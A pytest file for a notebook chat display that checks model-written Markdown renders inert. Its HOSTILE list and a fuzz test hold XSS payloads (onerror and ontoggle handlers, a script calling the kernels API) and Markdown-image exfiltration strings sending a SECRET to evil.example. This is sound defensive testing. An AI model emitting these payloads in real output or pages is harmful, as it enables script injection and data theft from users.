"""The Chat step view: the model's text renders inert (checked with a CommonMark renderer, HTML
allowed, as JupyterLab renders a running session's Markdown), theme colours only, no breaks
inside words."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings, strategies as st

from nbtools.chat.display import StepView, call_output
from nbtools.chat.safetext import safe_markdown
from nbtools.chat.steps import CallRecord, Step, Usage

markdown_it = pytest.importorskip("markdown_it")
RENDERER = markdown_it.MarkdownIt("commonmark", {"html": True})


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list]] = []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.tags.append((tag, attrs))


def _tags(markdown: str) -> list[tuple[str, list]]:
    parser = Tags()
    parser.feed(RENDERER.render(markdown))
    return parser.tags


def _inert(markdown: str) -> None:
    """No image, script, frame or style, and no attribute but a link's href or a code's class."""
    for tag, attrs in _tags(markdown):
        assert tag not in ("img", "script", "iframe", "object", "embed", "style", "svg", "video", "audio",
                           "link", "meta", "form", "input", "base"), (tag, markdown)
        assert all(name in ("href", "class", "title") for name, _ in attrs), (tag, attrs, markdown)


HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "Look: <script>fetch('/api/kernels')</script>",
    "![chart](http://evil.example/leak?d=SECRET)",
    "![chart][r]\n\n[r]: http://evil.example/leak?d=SECRET",
    "![chart]\n\n[chart]: http://evil.example/leak",
    "\\`<img src=x onerror=alert(1)>\\`",
    "- a `\n- b ` `<img src=x onerror=alert(1)>`",
    "x `\n\n` <img src=x onerror=alert(1)> `",
    "<details open ontoggle=alert(1)>",
    "```a`b\n<img src=x onerror=alert(1)>\n```",
    "<http://evil.example/x>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "    <img src=x onerror=alert(1)>",
    "> ```\n> <img src=x onerror=alert(1)>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_model_text_renders_inert(text):
    _inert(safe_markdown(text))


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(["`", "``", "<", ">", "![", "](", ")", "[", "]", ":", "\\", "\n", "\n\n", " ",
                                 "- ", "> ", "```", "~~~", "    ", "img src=x onerror=alert(1)", "http://e/x",
                                 "a", "&", "#"]), max_size=30).map("".join))
def test_no_mix_of_markdown_pieces_makes_markup(text):
    _inert(safe_markdown(text))


def test_code_and_ordinary_text_render_as_the_model_wrote_them():
    text = "Use `a < b` or `<div>` here.\n\n```python\nif a < b:\n    print('<b>')\n```\n\n**bold** [link](https://x.org)"
    html = RENDERER.render(safe_markdown(text))
    plain = RENDERER.render(text)
    assert "<pre><code class=\"language-python\">if a &lt; b:\n    print('&lt;b&gt;')\n</code></pre>" in html
    assert "<code>a &lt; b</code>" in html and "<code>&lt;div&gt;</code>" in html
    assert "<strong>bold</strong>" in html and '<a href="https://x.org">link</a>' in html
    assert html == plain  # nothing here was markup of the model's own: it renders the same
    assert "1 < 2" in RENDERER.render(safe_markdown("1 < 2")).replace("&lt;", "<")


def test_images_are_links_unless_the_person_asks():
    text = "![chart](https://example.org/chart.png)"
    assert [tag for tag, _ in _tags(safe_markdown(text))] == ["p", "a"]
    assert [tag for tag, _ in _tags(safe_markdown(text, remote_images=True))] == ["p", "img"]


def test_the_step_view_uses_theme_colours_and_breaks_only_between_words():
    error = CallRecord("c1", "divide", {"a": 1}, "Error calling tool 'divide': ZeroDivisionError: division by zero",
                       True)
    html = call_output(Step(1, "", (error,), Usage()), error)._repr_html_()
    assert "#b00020" not in html and "var(--jp-error-color1" in html and "var(--jp-border-color" in html
    assert "word-break: normal" in html and "overflow-wrap: break-word" in html


def test_model_text_in_the_view_is_inert_markdown():
    shown: list = []
    view = StepView(shown.append)
    answer = view.final("<img src=x onerror=alert(1)> ![x](http://evil.example/leak)", Usage())
    assert answer == "<img src=x onerror=alert(1)> ![x](http://evil.example/leak)"  # the text itself
    _inert(shown[-1]._repr_markdown_())
    assert repr(shown[-1]) == str(answer)
